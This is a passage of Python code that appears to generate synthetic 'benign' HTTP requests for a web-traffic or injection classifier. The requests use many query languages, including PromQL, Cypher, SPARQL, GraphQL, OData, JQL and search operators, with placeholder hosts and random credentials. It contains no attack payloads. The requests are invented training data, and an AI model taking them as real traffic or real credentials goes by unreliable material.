        return dict(method="GET", host="prometheus.monitoring.svc:9090", path="/api/v1/query_range", params=params,
                    qstyle=r.choice(["strict", "form"]))
    if k == 1:
        body = form([("query", pq), ("time", "%d.%03d" % (r.randint(1733300000, 1733400000), r.randint(0, 999)))])
        return dict(method="POST", host="prometheus.monitoring.svc:9090", path="/api/v1/query", body=body,
                    ctype="application/x-www-form-urlencoded")
    if k == 2:
        params = [("match[]", r.choice(['{__name__=~"http_.*",job="api"}', 'up{env="prod"}', 'node_load1{instance=~"web-0[1-3].*"}'])),
                  ("start", r.randint(1733300000, 1733400000))]
        return dict(method="GET", host="thanos-query.acme.io", path=r.choice(["/api/v1/series", "/api/v1/labels"]), params=params)
    params = [("g0.expr", pq), ("g0.tab", "0"), ("g0.stacked", "0"), ("g0.show_exemplars", "0"), ("g0.range_input", "1h")]
    return dict(method="GET", host="prometheus.acme.io", path="/graph", params=params, qstyle="browser", browser=True,
                accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")


INFLUXQL = [
    'SELECT mean("usage_idle") FROM "cpu" WHERE "host" = \'web-01\' AND time > now() - 1h GROUP BY time(1m) fill(null)',
    'SELECT max("used_percent") FROM "telegraf"."autogen"."mem" WHERE time >= now() - 6h GROUP BY time(5m), "host"',
    'SHOW TAG VALUES FROM "system" WITH KEY = "host"',
    'SELECT derivative(mean("bytes_recv"), 1s) *8 FROM "net" WHERE "interface" = \'eth0\' AND $timeFilter GROUP BY time($__interval)',
    'SHOW MEASUREMENTS ON "telegraf"',
    'SELECT last("temperature") FROM "sensors" WHERE "room" =~ /^(kitchen|office)$/ GROUP BY "room"',
    'SELECT percentile("response_time", 95) FROM "http" WHERE time > now() - 24h GROUP BY time(1h), "endpoint"',
    'SELECT count("value") FROM "events" WHERE "type" = \'login\' AND time > now() - 7d GROUP BY time(1d) tz(\'Europe/Berlin\')',
]
FLUX = [
    'from(bucket: "telegraf")\n  |> range(start: -1h)\n  |> filter(fn: (r) => r._measurement == "cpu" and r._field == "usage_idle")\n  |> aggregateWindow(every: 1m, fn: mean, createEmpty: false)\n  |> yield(name: "mean")',
    'from(bucket: "iot")\n  |> range(start: v.timeRangeStart, stop: v.timeRangeStop)\n  |> filter(fn: (r) => r.device =~ /^sensor-[0-9]+$/)\n  |> group(columns: ["device"])\n  |> max()',
    'import "strings"\nfrom(bucket: "logs")\n  |> range(start: -15m)\n  |> filter(fn: (r) => strings.containsStr(v: r.message, substr: "error"))\n  |> count()',
    'from(bucket: "energy")\n  |> range(start: -30d)\n  |> filter(fn: (r) => r._measurement == "power" and r.phase != "L3")\n  |> aggregateWindow(every: 1d, fn: sum)\n  |> map(fn: (r) => ({ r with _value: r._value / 1000.0 }))',
]


@benign_gen("influx_queries", 18)
def b_influx(r):
    if r.random() < 0.55:
        params = [("db", r.choice(["telegraf", "iot", "metrics"])), ("q", r.choice(INFLUXQL)), ("epoch", "ms")]
        if r.random() < 0.5:
            params.insert(1, ("rp", "autogen"))
        return dict(method="GET", host=r.choice(["influxdb.internal.acme.io:8086", "grafana.acme.io"]), path="/query", params=params,
                    qstyle=r.choice(["strict", "form"]), extra=[basic(r)])
    body = js({"query": r.choice(FLUX), "type": "flux", "dialect": {"annotations": ["datatype", "group", "default"], "header": True}})
    return dict(method="POST", host="influxdb2.acme.io:8086", path="/api/v2/query", params=[("org", r.choice(["acme", "iot-team"]))],
                body=body, extra=[["Authorization", "Token " + b64ish(r, 86) + "=="]], accept="application/csv")


# ---------------------------------------------------------------------------
# benign: graph query languages
# ---------------------------------------------------------------------------

CYPHER = [
    ("MATCH (p:Person {name: $name})-[:KNOWS]->(f:Person) RETURN f.name AS friend ORDER BY friend LIMIT 25", {"name": "NAME"}),
    ("MATCH (m:Movie) WHERE m.title CONTAINS $term OR m.tagline CONTAINS $term RETURN m.title, m.released ORDER BY m.released DESC", {"term": "TERM"}),
    ("MATCH path = shortestPath((a:Account {id: $from})-[:TRANSFER*..6]->(b:Account {id: $to})) RETURN [n IN nodes(path) | n.id] AS hops", {"from": "ACC", "to": "ACC"}),
    ("MATCH (u:User)-[r:PURCHASED]->(p:Product) WHERE r.at >= datetime($since) WITH p, count(*) AS n RETURN p.sku, n ORDER BY n DESC LIMIT 10", {"since": "DATE"}),
    ("MERGE (t:Tag {name: $tag}) WITH t MATCH (a:Article {id: $id}) MERGE (a)-[:TAGGED]->(t) RETURN a.id", {"tag": "TAG", "id": "ID"}),
    ("MATCH (n:Device) WHERE n.lastSeen < datetime() - duration('P7D') AND NOT (n)-[:ASSIGNED_TO]->() RETURN n.serial LIMIT 100", {}),
    ("UNWIND $rows AS row MERGE (c:Customer {id: row.id}) SET c.name = row.name, c.updated = timestamp()", {"rows": "ROWS"}),
    ("MATCH (e:Employee)-[:REPORTS_TO*1..3]->(m:Employee {email: $email}) RETURN e.name, e.title", {"email": "EMAIL"}),
    ("CALL db.labels() YIELD label RETURN label ORDER BY label", {}),
    ("MATCH (a:Airport {iata: $src})-[r:ROUTE]->(b:Airport) WHERE r.distance < 2000 RETURN b.iata, b.city, r.distance ORDER BY r.distance", {"src": "IATA"}),
]


def cypher_params(r, tmpl):
    out = {}
    for k, v in tmpl.items():
        out[k] = {"NAME": r.choice(NAMES), "TERM": r.choice(["matrix", "love", "Ocean's", "(500) days"]), "ACC": "ACC-%06d" % r.randint(1, 999999),
                  "DATE": day(r), "TAG": r.choice(["graph", "neo4j", "c#", "c++"]), "ID": uuid(r),
                  "ROWS": [{"id": r.randint(1, 9999), "name": r.choice(NAMES)} for _ in range(3)],
                  "EMAIL": "%s@acme.io" % r.choice(["cto", "vp.eng", "anna.schmidt"]), "IATA": r.choice(["FRA", "JFK", "LHR", "NRT"])}[v]
    return out


@benign_gen("neo4j_cypher", 18)
def b_cypher(r):
    stmts = []
    for _ in range(r.choice([1, 1, 2])):
        c, p = r.choice(CYPHER)
        stmts.append({"statement": c, "parameters": cypher_params(r, p), "resultDataContents": ["row"] + (["graph"] if r.random() < 0.3 else [])})
    db = r.choice(["neo4j", "movies", "fraud"])
    if r.random() < 0.3:
        return dict(method="POST", host="neo4j.acme.io:7474", path="/db/%s/query/v2" % db,
                    body=js({"statement": stmts[0]["statement"], "parameters": stmts[0]["parameters"]}), extra=[basic(r)])
    return dict(method="POST", host=r.choice(["neo4j.acme.io:7474", "graph.internal.acme.io"]), path="/db/%s/tx/commit" % db,
                body=js({"statements": stmts}), extra=[basic(r), ["X-Stream", "true"]])


GREMLIN = [
    ("g.V().has('person','name',name).out('knows').values('name')", {"name": "NAME"}),
    ("g.V(vid).outE('purchased').has('at', gte(since)).inV().valueMap('sku','price').limit(20)", {"vid": "VID", "since": "EPOCH"}),
    ("g.V().hasLabel('airport').has('code', code).repeat(out('route').simplePath()).times(2).path().by('code').limit(10)", {"code": "IATA"}),
    ("g.V().hasLabel('user').group().by('country').by(count()).order(local).by(values, desc)", {}),
    ("g.V().has('account','id',acct).both('transfer').dedup().count()", {"acct": "ACC"}),
    ("g.addV('tag').property('name', tag).as('t').V(vid).addE('tagged').to('t')", {"tag": "TAG", "vid": "VID"}),
    ("g.E().hasLabel('follows').where(outV().has('verified', true)).count()", {}),
    ("g.V().has('product','category',within(cats)).order().by('rating', desc).limit(5).project('sku','rating').by('sku').by('rating')", {"cats": "CATS"}),
]


@benign_gen("gremlin_http", 14)
def b_gremlin(r):
    gq, p = r.choice(GREMLIN)
    b = {}
    for k, v in p.items():
        b[k] = {"NAME": r.choice(NAMES), "VID": str(r.randint(1, 999999)), "EPOCH": r.randint(1700000000, 1733900000),
                "IATA": r.choice(["AUS", "SEA", "MUC"]), "ACC": "A%07d" % r.randint(1, 9999999), "TAG": r.choice(["vip", "churn-risk"]),
                "CATS": r.sample(["books", "games", "garden", "tools"], 2)}[v]
    body = {"gremlin": gq, "bindings": b}
    if r.random() < 0.4:
        body["language"] = "gremlin-groovy"
    return dict(method="POST", host=r.choice(["gremlin.acme.io:8182", "db-neptune-1.cluster-abc123.eu-west-1.neptune.amazonaws.com:8182"]),
                path="/gremlin", body=js(body))


SPARQL = [
    'PREFIX foaf: <http://xmlns.com/foaf/0.1/>\nSELECT ?name ?email WHERE {\n  ?p a foaf:Person ;\n     foaf:name ?name .\n  OPTIONAL { ?p foaf:mbox ?email }\n  FILTER(CONTAINS(LCASE(?name), "smith"))\n} ORDER BY ?name LIMIT 50',
    'PREFIX wdt: <http://www.wikidata.org/prop/direct/>\nPREFIX wd: <http://www.wikidata.org/entity/>\nSELECT ?city ?pop WHERE { ?city wdt:P31 wd:Q515 ; wdt:P1082 ?pop . FILTER(?pop > 1000000) } ORDER BY DESC(?pop) LIMIT 20',
    'PREFIX dct: <http://purl.org/dc/terms/>\nSELECT (COUNT(?doc) AS ?n) ?year WHERE { ?doc dct:issued ?d . BIND(YEAR(?d) AS ?year) } GROUP BY ?year HAVING (COUNT(?doc) > 10)',
    'PREFIX skos: <http://www.w3.org/2004/02/skos/core#>\nSELECT ?c ?label WHERE { ?c skos:prefLabel ?label . FILTER(LANG(?label) = "de" && REGEX(?label, "^Bio", "i")) }',
    'ASK { <http://data.acme.io/product/4711> <http://schema.org/offers> ?o }',
    'PREFIX schema: <http://schema.org/>\nCONSTRUCT { ?p schema:name ?n } WHERE { ?p a schema:Product ; schema:name ?n ; schema:brand/schema:name "Acme" }',
    'SELECT DISTINCT ?type (COUNT(*) AS ?c) WHERE { ?s a ?type } GROUP BY ?type ORDER BY DESC(?c) LIMIT 25',
    'PREFIX geo: <http://www.opengis.net/ont/geosparql#>\nSELECT ?s WHERE { ?s geo:hasGeometry/geo:asWKT ?w . FILTER NOT EXISTS { ?s <http://acme.io/ns#deleted> true } } LIMIT 100',
]


@benign_gen("sparql_endpoint", 18)
def b_sparql(r):
    sq = r.choice(SPARQL)
    acc = r.choice(["application/sparql-results+json", "application/sparql-results+xml", "text/csv", "text/turtle"])
    host = r.choice(["sparql.data.acme.io", "fuseki.internal.acme.io:3030", "graphdb.acme.io:7200"])
    path = r.choice(["/sparql", "/ds/query", "/repositories/kg"])
    k = r.randint(0, 2)
    if k == 0:
        return dict(method="GET", host=host, path=path, params=[("query", sq)], qstyle=r.choice(["strict", "form"]), accept=acc)
    if k == 1:
        return dict(method="POST", host=host, path=path, body=form([("query", sq), ("default-graph-uri", "http://data.acme.io/graph/main")]),
                    ctype="application/x-www-form-urlencoded", accept=acc)
    return dict(method="POST", host=host, path=path, body=sq, ctype="application/sparql-query", accept=acc)


# ---------------------------------------------------------------------------
# benign: GraphQL
# ---------------------------------------------------------------------------

GQL_OPS = [
    ("SearchProducts", "query SearchProducts($q: String!, $first: Int = 20, $after: String) {\n  search(query: $q, first: $first, after: $after) {\n    edges { node { id name price { amount currency } } }\n    pageInfo { hasNextPage endCursor }\n  }\n}",
     lambda r: {"q": r.choice(PRODUCTS), "first": 20, "after": None if r.random() < 0.5 else b64ish(r, 16)}),
    ("Issues", "query Issues($owner: String!, $name: String!, $filter: String!) {\n  repository(owner: $owner, name: $name) {\n    issues(first: 50, filterBy: {labels: [\"bug\"]}, orderBy: {field: CREATED_AT, direction: DESC}) {\n      nodes { number title author { login } }\n    }\n  }\n  search(query: $filter, type: ISSUE, first: 10) { issueCount }\n}",
     lambda r: {"owner": "acme", "name": "api", "filter": "repo:acme/api is:open label:\"good first issue\" -label:wontfix"}),
    ("UserFields", "fragment UserFields on User {\n  id\n  login\n  ... on Admin { permissions }\n}\n\nquery UserFields($ids: [ID!]!) {\n  nodes(ids: $ids) { ...UserFields }\n}",
     lambda r: {"ids": [uuid(r), uuid(r)]}),
    ("CreateComment", "mutation CreateComment($input: CreateCommentInput!) {\n  createComment(input: $input) {\n    comment { id body createdAt }\n    errors { field message }\n  }\n}",
     lambda r: {"input": {"postId": str(r.randint(1, 99999)), "body": r.choice(["Great write-up! Does `WHERE x IN (...)` work too?", "I'd love a follow-up on OR vs AND semantics :)", "+1, same issue on v2.3 (see #4411)"])}}),
    ("Orders", "query Orders($where: OrderWhereInput) {\n  orders(where: $where, orderBy: [{createdAt: desc}], take: 25) {\n    id total status customer { email }\n  }\n}",
     lambda r: {"where": {"AND": [{"status": {"in": ["PAID", "SHIPPED"]}}, {"total": {"gte": r.randint(10, 500)}}, {"customer": {"email": {"contains": "@acme.io"}}}]}}),
    ("HasuraUsers", "query HasuraUsers($w: users_bool_exp!) {\n  users(where: $w, order_by: {created_at: desc}, limit: 10) { id name }\n}",
     lambda r: {"w": {"_or": [{"name": {"_ilike": "%%%s%%" % r.choice(["ann", "o'b", "smi"])}}, {"email": {"_like": "%@acme.io"}}], "deleted_at": {"_is_null": True}}}),
    ("UpdateSettings", "mutation UpdateSettings($s: SettingsInput!) @client {\n  updateSettings(settings: $s) { theme locale }\n}",
     lambda r: {"s": {"theme": r.choice(["dark", "light"]), "locale": r.choice(["de-DE", "en-US"])}}),
    ("Dashboard", "query Dashboard($from: DateTime!, $to: DateTime!, $skipTrends: Boolean = false) {\n  metrics(range: {from: $from, to: $to}) {\n    revenue\n    signups\n    trends @skip(if: $skipTrends) { day value }\n  }\n}",
     lambda r: {"from": ts(r), "to": ts(r), "skipTrends": r.random() < 0.5}),
]


@benign_gen("graphql_post", 26)
def b_gql(r):
    name, query, var = r.choice(GQL_OPS)
    body = {"operationName": name, "query": query, "variables": var(r)}
    if r.random() < 0.15:
        body = [body, {"operationName": "Viewer", "query": "query Viewer { viewer { id login avatarUrl(size: 64) } }", "variables": {}}]
    host = r.choice(["api.acme.io", "shop.acme.io", "hasura.acme.io", "api.github.com"])
    browser = r.random() < 0.5
    extra = [bearer(r)]
    if browser:
        extra += [["Origin", "https://%s" % host], ["apollographql-client-name", "web"], ["apollographql-client-version", "4.%d.%d" % (r.randint(0, 9), r.randint(0, 30))]]
    return dict(method="POST", host=host, path=r.choice(["/graphql", "/v1/graphql", "/api/graphql"]), body=js(body), browser=browser, extra=extra)


@benign_gen("graphql_get", 10)
def b_gql_get(r):
    name, query, var = r.choice(GQL_OPS[:3] + GQL_OPS[4:6])
    params = [("operationName", name), ("query", query), ("variables", js(var(r)))]
    if r.random() < 0.4:
        params = [("operationName", name), ("variables", js(var(r))),
                  ("extensions", js({"persistedQuery": {"version": 1, "sha256Hash": hexid(r, 64)}}))]
    return dict(method="GET", host=r.choice(["api.acme.io", "shop.acme.io"]), path="/graphql", params=params,
                qstyle=r.choice(["strict", "browser"]), browser=True, extra=[["apollo-require-preflight", "true"]])


# ---------------------------------------------------------------------------
# benign: OData, JMESPath, XPath, MongoDB pipelines, BI tools
# ---------------------------------------------------------------------------

ODATA_FILTERS = [
    "Price gt 20 and Price le 200 and contains(Name,'bike')",
    "startswith(CompanyName,'Alfr') or endswith(Email,'@acme.io')",
    "Address/City eq 'Redmond' and not (Status eq 'Closed')",
    "OrderDate ge 2024-01-01T00:00:00Z and OrderDate lt 2024-02-01T00:00:00Z",
    "Tags/any(t: t eq 'urgent')",
    "LastName eq 'O''Brien'",
    "year(BirthDate) eq 1990 and month(BirthDate) gt 6",
    "Category in ('Beverages','Condiments') and UnitsInStock lt 10",
    "substringof('select', Description) eq true",
    "Items/all(i: i/Quantity ge 1) and Total ne null",
    "tolower(DisplayName) eq 'müller' and AccountEnabled eq true",
    "createdDateTime ge 2024-11-01T00:00:00Z and from/emailAddress/address eq 'noreply@github.com'",
]


@benign_gen("odata_query", 20)
def b_odata(r):
    params = [("$filter", r.choice(ODATA_FILTERS))]
    if r.random() < 0.6:
        params.append(("$orderby", r.choice(["Price desc", "OrderDate desc,OrderID", "LastName asc, FirstName asc", "createdDateTime desc"])))
    if r.random() < 0.6:
        params.append(("$select", r.choice(["ProductID,Name,Price", "id,subject,from,receivedDateTime", "Id,DisplayName,Mail"])))
    if r.random() < 0.4:
        params.append(("$expand", r.choice(["Category($select=Name)", "Orders($filter=Total gt 100;$top=5)", "manager($levels=max;$select=id,displayName)"])))
    params += [("$top", r.choice([10, 25, 50, 100])), ("$count", "true")]
    if r.random() < 0.3:
        params.append(("$search", '"%s"' % r.choice(["quarterly report", "invoice 2024", "budget OR forecast"])))
    host, path = r.choice([("services.odata.org", "/V4/Northwind/Northwind.svc/Products"), ("graph.microsoft.com", "/v1.0/me/messages"),
                           ("erp.acme.io", "/sap/opu/odata/sap/ZSALES_SRV/OrderSet"), ("crm.acme.io", "/api/data/v9.2/accounts"),
                           ("graph.microsoft.com", "/v1.0/users")])
    extra = [bearer(r), ["OData-Version", "4.0"], ["OData-MaxVersion", "4.0"]]
    if "graph.microsoft" in host and r.random() < 0.5:
        extra.append(["ConsistencyLevel", "eventual"])
    return dict(method="GET", host=host, path=path, params=params, qstyle=r.choice(["strict", "browser", "browser"]), extra=extra)


JMES = [
    "Reservations[].Instances[?State.Name=='running'].InstanceId",
    "items[?status.phase!='Succeeded'].{name: metadata.name, ns: metadata.namespace}",
    "people[?age > `30`].name | sort(@) | [0:5]",
    "locations[?state == 'WA'].name | join(', ', @)",
    "data[*].attributes.{id: id, tags: tags[?starts_with(@, 'env:')]}",
    "max_by(orders, &total).id",
    "length(users[?contains(email, '@acme.io') && !disabled])",
    "Stacks[?StackStatus=='CREATE_COMPLETE' || StackStatus=='UPDATE_COMPLETE'].StackName",
]


@benign_gen("jmespath_filter", 12)
def b_jmes(r):
    expr = r.choice(JMES)
    if r.random() < 0.6:
        return dict(method="GET", host=r.choice(["cloud-inventory.acme.io", "api.acme.io"]), path=r.choice(["/v1/resources", "/api/v2/inventory/query"]),
                    params=[("query", expr), ("output", "json"), ("region", r.choice(["eu-central-1", "us-east-1"]))], extra=[bearer(r)])
    return dict(method="POST", host="automation.acme.io", path="/api/transform/jmespath",
                body=js({"expression": expr, "data_ref": "s3://acme-exports/%s.json" % uuid(r)}), extra=[bearer(r)])


XPATHS = [
    "//book[author='J. R. R. Tolkien' and price<20]/title",
    "/catalog/product[@category='tools'][position() <= 10]",
    "//item[contains(translate(title,'ABCDEFGHIJKLMNOPQRSTUVWXYZ','abcdefghijklmnopqrstuvwxyz'),'router')]",
    "//invoice[@status!='paid']/customer/name/text()",
    "count(//order[total > 1000])",
    "//entry[starts-with(@id,'urn:isbn:978')]/summary",
    "//*[local-name()='Envelope']/*[local-name()='Body']//Amount",
    "/feed/entry[updated >= '2024-11-01'][last()]",
]


@benign_gen("xpath_search", 12)
def b_xpath(r):
    xp = r.choice(XPATHS)
    if r.random() < 0.6:
        return dict(method="GET", host=r.choice(["docs.acme.io", "xmldb.acme.io:8080"]), path=r.choice(["/exist/rest/db/catalog", "/api/xml/search"]),
                    params=[("_query" if r.random() < 0.5 else "xpath", xp), ("_howmany", r.choice([10, 50]))], qstyle=r.choice(["strict", "browser"]),
                    accept="application/xml")
    return dict(method="POST", host="basex.acme.io:8984", path="/rest/catalog",
                body='<query xmlns="http://basex.org/rest"><text><![CDATA[ %s ]]></text></query>' % xp, ctype="application/xml", accept="application/xml")


def mongo_pipeline(r):
    k = r.randint(0, 5)
    if k == 0:
        return [{"$match": {"status": {"$in": ["paid", "shipped"]}, "createdAt": {"$gte": {"$date": ts(r)}}}},
                {"$group": {"_id": "$country", "revenue": {"$sum": "$total"}, "orders": {"$sum": 1}}},
                {"$sort": {"revenue": -1}}, {"$limit": 10}]
    if k == 1:
        return [{"$lookup": {"from": "customers", "localField": "customerId", "foreignField": "_id", "as": "customer"}},
                {"$unwind": "$customer"}, {"$project": {"_id": 0, "email": "$customer.email", "total": 1}}, {"$match": {"total": {"$gt": r.randint(50, 500)}}}]
    if k == 2:
        return [{"$match": {"$or": [{"tags": "vip"}, {"lifetimeValue": {"$gte": 1000}}], "deleted": {"$ne": True}}},
                {"$addFields": {"month": {"$dateToString": {"format": "%Y-%m", "date": "$signupDate"}}}},
                {"$group": {"_id": "$month", "n": {"$count": {}}}}]
    if k == 3:
        return [{"$match": {"name": {"$regex": "^%s" % r.choice(["Ann", "Mül", "O'B"]), "$options": "i"}}},
                {"$facet": {"byCity": [{"$sortByCount": "$address.city"}], "total": [{"$count": "n"}]}}]
    if k == 4:
        return [{"$bucket": {"groupBy": "$price", "boundaries": [0, 50, 100, 500, 1000], "default": "1000+", "output": {"count": {"$sum": 1}}}}]
    return [{"$match": {"$expr": {"$gt": ["$spent", "$budget"]}}},
            {"$project": {"name": 1, "over": {"$subtract": ["$spent", "$budget"]}, "ratio": {"$cond": [{"$eq": ["$budget", 0]}, None, {"$divide": ["$spent", "$budget"]}]}}}]


@benign_gen("mongo_aggregate_bi", 20)
def b_mongo(r):
    pipe = mongo_pipeline(r)
    coll = r.choice(["orders", "customers", "products", "events"])
    k = r.randint(0, 2)
    if k == 0:
        body = {"dataSource": "Cluster0", "database": r.choice(["shop", "analytics"]), "collection": coll, "pipeline": pipe}
        return dict(method="POST", host="data.mongodb-api.com", path="/app/data-%s/endpoint/data/v1/action/aggregate" % alnum(r, 5).lower(),
                    body=js(body), extra=[["api-key", b64ish(r, 64)], ["Access-Control-Request-Headers", "*"]], ua=r.choice(["Metabase/v0.51.3", "python-requests/2.32.3"]))
    if k == 1:
        body = {"database": r.randint(2, 9), "type": "native", "native": {"query": js(pipe), "collection": coll, "template-tags": {}},
                "parameters": []}
        return dict(method="POST", host="metabase.acme.io", path="/api/dataset", body=js(body), browser=True,
                    cookie="metabase.DEVICE=%s; metabase.SESSION=%s" % (uuid(r), uuid(r)), extra=[["X-Metabase-Client", "embedding-sdk-react"]] if r.random() < 0.2 else [])
    flt = {"status": r.choice(["active", "trial"]), "seats": {"$gte": r.randint(1, 20)}}
    params = [("filter", js(flt)), ("sort", js({"createdAt": -1})), ("limit", 50)]
    if r.random() < 0.5:
        params.append(("projection", js({"name": 1, "plan": 1, "_id": 0})))
    return dict(method="GET", host="admin-api.acme.io", path="/api/collections/%s/find" % coll, params=params, extra=[bearer(r)])


@benign_gen("bi_parameter_runs", 20)
def b_bi(r):
    k = r.randint(0, 3)
    if k == 0:
        body = {"parameters": [{"type": "string/=", "value": [r.choice(["EMEA", "APAC", "North America"])], "target": ["variable", ["template-tag", "region"]]},
                               {"type": "date/range", "value": "%s~%s" % (day(r), day(r)), "target": ["dimension", ["template-tag", "created"]]}]}
        return dict(method="POST", host="metabase.acme.io", path="/api/card/%d/query" % r.randint(1, 900), body=js(body), browser=True,
                    cookie="metabase.SESSION=%s" % uuid(r))
    if k == 1:
        body = {"datasource": {"id": r.randint(1, 40), "type": "table"}, "force": False,
                "queries": [{"filters": [{"col": "country", "op": "IN", "val": r.sample(["US", "DE", "FR", "GB", "IN"], 2)},
                                         {"col": "order_total", "op": ">=", "val": r.randint(10, 100)},
                                         {"col": "customer_name", "op": "ILIKE", "val": "%%%s%%" % r.choice(["o'", "smith", "gmbh"])}],
                             "extras": {"having": "", "where": ""}, "columns": ["country"], "metrics": [{"label": "COUNT(*)", "expressionType": "SQL", "sqlExpression": "COUNT(*)"}],
                             "orderby": [[{"label": "COUNT(*)", "expressionType": "SQL", "sqlExpression": "COUNT(*)"}, False]], "row_limit": 1000,
                             "time_range": "Last quarter"}],
                "result_format": "json", "result_type": "full"}
        return dict(method="POST", host="superset.acme.io", path="/api/v1/chart/data", body=js(body), browser=True,
                    cookie="session=%s" % b64ish(r, 120), extra=[["X-CSRFToken", b64ish(r, 40)]])
    if k == 2:
        body = {"id": r.randint(1, 500), "parameters": {"country": r.choice(["Germany", "Côte d'Ivoire", "United States"]), "min_orders": r.randint(1, 10),
                                                       "date_range": {"start": day(r), "end": day(r)}}, "max_age": 0}
        return dict(method="POST", host="redash.acme.io", path="/api/queries/%d/results" % body["id"], body=js(body),
                    extra=[["Authorization", "Key " + alnum(r, 40)]])
    params = [("p_country", r.choice(["DE", "US"])), ("p_status", r.choice(["open", "closed"])), ("p_search", r.choice(["o'reilly", "acme (old)", "a&b"])),
              ("api_key", alnum(r, 40))]
    return dict(method="GET", host="redash.acme.io", path="/api/queries/%d/results.csv" % r.randint(1, 500), params=params, qstyle="form",
                accept="text/csv")


# ---------------------------------------------------------------------------
# benign: issue trackers, code hosts, site search, regex fields
# ---------------------------------------------------------------------------

JQL = [
    'project = PROJ AND status in ("In Progress", "To Do") AND assignee = currentUser() ORDER BY priority DESC',
    'project in (OPS, SRE) AND type = Bug AND created >= -7d AND labels not in (wontfix) ORDER BY created DESC',
    'text ~ "null pointer" AND resolution = Unresolved',
    'summary ~ "login*" OR description ~ "\\"SSO\\" AND okta"',
    'sprint in openSprints() AND "Story Points[Number]" > 5',
    'reporter was "jdoe" AND status changed FROM "Open" TO "Done" DURING ("2024/11/01", "2024/11/30")',
    'issueFunction in linkedIssuesOf("project = CORE AND fixVersion = 4.2", "blocks")',
    'component = "Payments API" AND (priority = Highest OR labels = hotfix) AND updated <= startOfDay(-1)',
    'filter = 10420 AND "Epic Link" = PROJ-1234',
    'assignee is EMPTY AND project = HELP AND "Customer Request Type" = "Report a bug (HELP)"',
]


@benign_gen("jira_jql", 20)
def b_jira(r):
    jql = r.choice(JQL)
    host = r.choice(["acme.atlassian.net", "jira.acme.io"])
    k = r.randint(0, 2)
    if k == 0:
        params = [("jql", jql), ("startAt", r.choice([0, 50])), ("maxResults", 50), ("fields", "summary,status,assignee,priority")]
        return dict(method="GET", host=host, path=r.choice(["/rest/api/3/search", "/rest/api/2/search", "/rest/api/3/search/jql"]), params=params,
                    qstyle=r.choice(["strict", "form"]), extra=[basic(r)], ua=r.choice(["JIRA-Cloud-Client/3.0", "python-requests/2.32.3", "Go-http-client/1.1"]))
    if k == 1:
        body = {"jql": jql, "startAt": 0, "maxResults": 100, "fields": ["summary", "status"], "expand": ["changelog"]}
        return dict(method="POST", host=host, path="/rest/api/3/search", body=js(body), browser=True, cookie=jira_cookie(r),
                    extra=[["X-Atlassian-Token", "no-check"]])
    return dict(method="GET", host=host, path="/issues/", params=[("jql", jql)], qstyle="browser", browser=True, cookie=jira_cookie(r),
                accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")


GH_Q = [
    'repo:acme/api is:issue is:open label:"bug" -label:wontfix created:>2024-01-01',
    'org:acme is:pr is:merged review:approved merged:2024-11-01..2024-11-30',
    'user:octocat language:go stars:>100 pushed:>=2024-06-01',
    '"connection refused" in:body repo:acme/infra',
    'filename:docker-compose.yml path:/deploy org:acme',
    'is:pr author:app/dependabot is:open -status:failure',
    'SELECT * in:title repo:acme/sql-tools',
    'extension:sql "DROP TABLE" repo:acme/migrations',
    'symbol:ParseQuery language:rust NOT path:vendor',
    'involves:jdoe is:issue updated:<2024-10-01 sort:updated-desc',
    'topic:graphql archived:false fork:true size:<10000',
    '/(?i)select\\s+\\*\\s+from/ language:python',
]


@benign_gen("github_search", 18)
def b_github(r):
    gq = r.choice(GH_Q)
    if r.random() < 0.6:
        path = r.choice(["/search/issues", "/search/code", "/search/repositories", "/search/commits"])
        return dict(method="GET", host="api.github.com", path=path, params=[("q", gq), ("per_page", r.choice([30, 100])), ("page", r.randint(1, 4))],
                    qstyle=r.choice(["strict", "form"]), extra=[bearer(r), ["X-GitHub-Api-Version", "2022-11-28"]],
                    accept="application/vnd.github+json", ua=r.choice(["octokit-rest.js/21.0.2", "gh/2.62.0", "PyGithub/Python"]))
    return dict(method="GET", host=r.choice(["github.com", "git.acme.io"]), path="/search", params=[("q", gq), ("type", r.choice(["issues", "code", "pullrequests"]))],
                qstyle="form", browser=True, accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
                cookie="_gh_sess=%s; logged_in=yes; dotcom_user=%s" % (b64ish(r, 80), r.choice(["jdoe", "anna-s", "k8s-bot"])))


ADV = [
    'site:docs.acme.io "rate limit" -beta',
    'inurl:api filetype:pdf "terms of service"',
    'intitle:"release notes" site:acme.io 2024',
    '"index of" mp3 -html',
    'filetype:xlsx budget OR forecast site:intranet.acme.io',
    'related:acme.io -site:acme.io',
    'define:idempotent',
    'cache:acme.io/pricing',
    '"select * from" tutorial -w3schools',
    'allintext: kubernetes operator "helm chart"',
    'before:2024-01-01 after:2023-06-01 "quarterly results"',
    'site:*.gov.uk filetype:csv "road traffic"',
    'inurl:login intitle:dashboard grafana',
    'how to escape \' in sql like clause',
]


@benign_gen("advanced_site_search", 18)
def b_adv(r):
    s = r.choice(ADV)
    host = r.choice(["search.acme.io", "www.acme.io", "intranet.acme.io", "duck.internal.acme.io"])
    params = [("q", s)]
    if r.random() < 0.5:
        params.append(("page", r.randint(1, 5)))
    if r.random() < 0.3:
        params.append(("lang", r.choice(["en", "de"])))
    return dict(method="GET", host=host, path=r.choice(["/search", "/s", "/results"]), params=params, qstyle=r.choice(["form", "browser"]), browser=True,
                accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
                cookie="session=%s; consent=%s" % (hexid(r, 32), r.choice(["all", "essential"])))


REGEXES = [
    r"^ERROR\s+\[(auth|billing)\].*timeout$",
    r"\b\d{3}-\d{2}-\d{4}\b",
    r"(?i)user(name)?=([a-z0-9._-]+)",
    r"^[A-Z]{2}\d{2}[A-Z0-9]{1,30}$",
    r"GET /api/v[12]/orders/\d+ HTTP/1\.[01]\" 5\d\d",
    r"(?<=order_id=)[0-9a-f]{8}-[0-9a-f]{4}",
    r"^(?!.*healthz).*\s(4|5)\d{2}\s",
    r"[\w.+-]+@[\w-]+\.(com|io|de)",
    r"func\s+\w+\(ctx context\.Context",
    r"^\s*#\s*TODO\(.*\):",
]


@benign_gen("regex_search", 16)
def b_regex(r):
    rx = r.choice(REGEXES)
    k = r.randint(0, 2)
    if k == 0:
        return dict(method="GET", host="logs.acme.io", path="/api/v1/search", params=[("regex", rx), ("case", r.choice(["true", "false"])), ("since", "1h")],
                    extra=[bearer(r)])
    if k == 1:
        sg = "repo:^github\\.com/acme/ lang:go /%s/ patterntype:regexp" % rx
